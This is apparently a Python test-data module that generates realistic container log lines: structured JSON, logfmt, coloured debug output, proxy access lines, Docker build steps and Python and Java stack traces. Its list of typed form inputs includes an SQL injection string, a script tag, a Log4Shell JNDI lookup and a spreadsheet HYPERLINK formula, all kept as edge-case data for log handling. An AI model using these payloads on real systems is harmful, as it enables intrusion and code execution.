"""Lines as real programs write them: structured, plain, coloured, traces of stacks, and what people put into forms."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from random import Random

# What customers' customers type, and programs log.
_TYPED: Final = (
    "'; DROP TABLE logs; --",
    "<script>alert('hi')</script>",
    "${jndi:ldap://203.0.113.7/a}",
    '=HYPERLINK("http://203.0.113.7","click")',
    "\u202eelif.exe",
    "Grüße aus Zürich, 東京 и Москвы 👩‍🚀🚀",
    "100 % \\o/ \\N \\x00 {p:String}",
    "a\u0000b",
)
_PATHS: Final = ("/", "/items", "/items/42", "/search?q=meter", "/cart", "/assets/app.js", "/checkout")
_BROWSERS: Final = ("Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "okhttp/4.12.0")

BUILD_STEPS: Final = (
    "#1 [internal] load build definition from Dockerfile",
    "#2 [internal] load metadata for docker.io/library/python:3.11-slim",
    "#3 [1/6] FROM docker.io/library/python:3.11-slim@sha256:9e1912aab0a3",
    "#4 [2/6] WORKDIR /app",
    "#4 CACHED",
    "#5 [3/6] COPY requirements.txt .",
    "#6 [4/6] RUN pip install --no-cache-dir -r requirements.txt",
    "#6 1.214 Collecting fastapi>=0.110",
    "#6 2.003 \x1b[33mWARNING: Running pip as the 'root' user can result in broken permissions\x1b[0m",
    "#6 6.518 Successfully installed fastapi-0.115.6 uvicorn-0.34.0",
    "#7 [5/6] COPY . .",
    "#8 [6/6] RUN python -m compileall -q app",
    "#9 exporting to image",
    "#9 pushing layers 3.1s done",
    "#9 DONE 4.0s",
    "\x1b[32m✔\x1b[0m Build finished in 41 s",
)


def line(container: str, now: float, drawn: Random) -> tuple[str, str]:
    """A stream (`stdout` or `stderr`) and the text of one line of a container."""
    request = f"{drawn.getrandbits(64):016x}"
    took = round(drawn.lognormvariate(3.0, 0.8), 1)
    path = drawn.choice(_PATHS)
    status = drawn.choices((200, 201, 302, 404, 500, 503), (70, 8, 8, 8, 4, 2))[0]
    kind = drawn.random()
    if container == "proxy":
        address = f"198.51.100.{drawn.randrange(256)}"
        return (
            "stdout",
            f'{address} - - "GET {path} HTTP/1.1" {status} {drawn.randrange(90, 40_000)} "{drawn.choice(_BROWSERS)}"',
        )
    if kind < 0.5:  # noqa: PLR2004 - shares of the kinds
        level = "error" if status >= 500 else "warn" if status == 404 else "info"  # noqa: PLR2004 - HTTP's own
        fields = {
            "level": level,
            "msg": f"GET {path} {status}",
            "request_id": request,
            "duration_ms": took,
            "http": {"method": "GET", "path": path, "status": status},
            "trace_id": f"{drawn.getrandbits(128) | 1:032x}",
            "span_id": f"{drawn.getrandbits(64) | 1:016x}",
        }
        return "stdout", json.dumps(fields, separators=(",", ":"))
    if kind < 0.75:  # noqa: PLR2004 - the same
        return "stdout", f'ts={now:.3f} level=info msg="cache refreshed" keys={drawn.randrange(5_000)} took={took}ms'
    if kind < 0.88:  # noqa: PLR2004 - the same
        return "stdout", f"\x1b[36mDEBUG\x1b[0m worker {drawn.randrange(8)} took job \x1b[1m{request}\x1b[0m"
    if kind < 0.94:  # noqa: PLR2004 - the same
        return "stdout", f"INFO contact form of {request[:6]}: {drawn.choice(_TYPED)}"
    return "stderr", _trace(request, drawn)


def _trace(request: str, drawn: Random) -> str:
    """A stack trace, which the agent's multi-line parser has put together."""
    if drawn.random() < 0.5:  # noqa: PLR2004 - one of two languages
        return (
            "Traceback (most recent call last):\n"
            '  File "/app/main.py", line 88, in handle\n'
            "    order = repository.load(order_id)\n"
            '  File "/app/repository.py", line 31, in load\n'
            "    raise KeyError(order_id)\n"
            f"KeyError: 'order-{request[:8]}'"
        )
    return (
        'ERROR Exception in thread "http-nio-8080-exec-7" java.lang.IllegalStateException: pool exhausted\n'
        "\tat com.example.Pool.take(Pool.java:42)\n"
        "\tat com.example.Handler.serve(Handler.java:117)\n"
        f"Caused by: java.sql.SQLTimeoutException: request {request} waited 5000 ms\n"
        "\t... 12 more"
    )
